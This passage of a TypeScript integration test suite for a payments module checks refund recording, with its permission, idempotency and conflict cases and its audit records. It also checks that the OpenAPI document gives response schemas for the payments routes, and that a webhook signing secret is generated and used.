        url: `${BASE}/refunds/${encodeURIComponent(transactionId)}/refunded`,
        headers: who.auth,
        payload: { reference } as Record<string, unknown>,
      });
    assert.equal((await record(late.transactionId, 'HT-1', officer)).statusCode, 403, 'refunds are payments:refund');
    assert.equal((await record(late.transactionId, '', admin)).statusCode, 400);
    const unknown = await record('TX-NONE', 'HT-1', admin);
    assert.equal(problemOf(unknown).code, 'PAYMENTS_REFUND_NOT_FOUND');
    const done = await record(late.transactionId, 'HT-1', admin);
    assert.equal(done.statusCode, 200, done.body);
    assert.deepEqual(
      [
        done.json<{ refund: { state: string; refundReference: string } }>().refund.state,
        done.json<{ refund: { refundReference: string } }>().refund.refundReference,
      ],
      ['refunded', 'HT-1'],
    );
    assert.equal((await record(late.transactionId, 'HT-1', admin)).statusCode, 200, 'the same refund again');
    const other = await record(late.transactionId, 'HT-2', admin);
    assert.equal(other.statusCode, 409, other.body);
    assert.equal(problemOf(other).code, 'PAYMENTS_REFUND_STATE');
    assert.equal(
      (await get(`${BASE}/refunds?state=due&subject=${intent.subject}`)).json<{ refunds: unknown[] }>().refunds.length,
      0,
    );
    await app.audit.flush();
    assert.equal(
      await count(
        `SELECT count(*) AS n FROM audit_record WHERE action = 'POST /api/v1/payments/refunds/:transactionId/refunded'
           AND target = $1 AND outcome = 200 AND actor_id = $2`,
        [late.transactionId, admin.id],
      ),
      2,
    );
  });

  it('describes every payments route with its answer in the OpenAPI document', async () => {
    const res = await app.http.inject({ method: 'GET', url: '/openapi.json' });
    const doc = res.json<{ paths: Record<string, Record<string, { responses?: Record<string, unknown> }>> }>();
    const paths = Object.entries(doc.paths).filter(([p]) => p.startsWith(BASE));
    assert.ok(paths.length >= 5, 'the routes are in the document');
    for (const [path, methods] of paths) {
      for (const [method, op] of Object.entries(methods)) {
        const ok = op.responses?.['200'] as { content?: Record<string, { schema?: unknown }> } | undefined;
        assert.ok(ok?.content && Object.values(ok.content).every((c) => c.schema), `${method} ${path}: 200 schema`);
      }
    }
  });

  it('generates the webhook secret into DATA_DIR when none is set, and signs with it', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'payments-secret-'));
    try {
      const other = await buildTestApp(ctx.db, { DATA_DIR: dir });
      try {
        const path = join(dir, WEBHOOK_SECRET_FILE);
        assert.ok(existsSync(path), 'existsSync(path)');
        const secret = readFileSync(path, 'utf8').trim();
        assert.match(secret, /^[0-9a-f]{64}$/);
        assert.equal(other.modules.get(paymentsModule).settings.webhookSecret, secret);
        const intent = await other.modules.get(paymentsModule).createIntent('', {
          purpose: 'test-other',
          subject: 'S-1',
          amountVnd: 5000,
          description: 'x',
        });
        // The demo's bank: the transfer of the QR code as shown, signed with the generated secret.
        const res = await other.http.inject(bankConfirmation(secret, transferFor(intent, DEMO_PAYEE.account)));
        assert.equal(res.statusCode, 200, res.body);
        assert.equal(res.json<ConfirmationAnswer>().outcome, 'matched');
      } finally {
        await other.http.close();
      }
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
